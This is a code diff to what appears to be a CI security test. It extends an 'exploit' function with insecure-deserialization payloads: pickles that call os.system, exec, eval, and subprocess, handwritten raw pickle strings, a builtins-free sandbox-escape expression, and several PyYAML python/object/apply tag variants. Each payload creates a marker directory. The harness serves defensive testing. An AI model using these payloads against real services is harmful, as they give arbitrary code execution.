@@ -3,6 +3,7 @@
 import os
 import pickle
 import subprocess
+import timeit
 
 from deepguard_ci.judging import Raised, text, token
 
@@ -34,10 +35,24 @@ def exploit(box, rng):
     makers = {
         "pickled call": lambda mark: pickle.dumps(Act(os.mkdir, mark)),
         "text pickle": lambda mark: pickle.dumps(Act(os.system, f"mkdir {mark}"), protocol=0),
-        "call among pickled positions": lambda mark: pickle.dumps({"Emma": 12, "Ivanhoe": Act(subprocess.getoutput, f"mkdir {mark}")}, protocol=2),
+        "call among pickled positions": lambda mark: pickle.dumps(
+            {"Emma": 12, "Ivanhoe": Act(subprocess.getoutput, f"mkdir {mark}")}, protocol=2),
+        "pickled builtins.exec": lambda mark: pickle.dumps(Act(exec, f"import os; os.mkdir('{mark}')"), protocol=4),
+        "pickled builtins.eval": lambda mark: pickle.dumps(
+            {"Emma": Act(eval, f"__import__('os').mkdir('{mark}')")}, protocol=2),
+        "text pickle of exec": lambda mark: pickle.dumps(Act(exec, f"import os; os.mkdir('{mark}')"), protocol=0),
+        "pickled builtins.open": lambda mark: f"cbuiltins\nopen\n(S'{mark}'\nS'w'\ntR.",
+        "pickled instance": lambda mark: f"(S'mkdir {mark}'\nios\nsystem\n.",
+        "pickled timeit": lambda mark: pickle.dumps({"Emma": Act(timeit.timeit, f"__import__('os').mkdir('{mark}')")}),
         "expression": lambda mark: f"__import__('os').mkdir('{mark}') or {{}}",
         "expression among positions": lambda mark: f"{{'Emma': 12, 'Ivanhoe': __import__('os').mkdir('{mark}')}}",
+        "expression without builtins": lambda mark: (
+            "{'Emma': [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close']"
+            f"[0].__init__.__globals__['mkdir']('{mark}')}}"),
         "YAML tag": lambda mark: f"Emma: 12\nIvanhoe: !!python/object/apply:os.mkdir [{mark}]\n",
+        "verbatim YAML tag": lambda mark: f"Emma: !<tag:yaml.org,2002:python/object/apply:os.mkdir> [{mark}]\n",
+        "YAML tag by %TAG": lambda mark: (
+            f"%TAG !p! tag:yaml.org,2002:python/\n---\nEmma: !p!object/apply:os.mkdir [{mark}]\n"),
     }
     synced = [(what, f"sync/{token(rng)}", token(rng, 13), make) for what, make in makers.items()]
     for _, path, mark, make in synced:
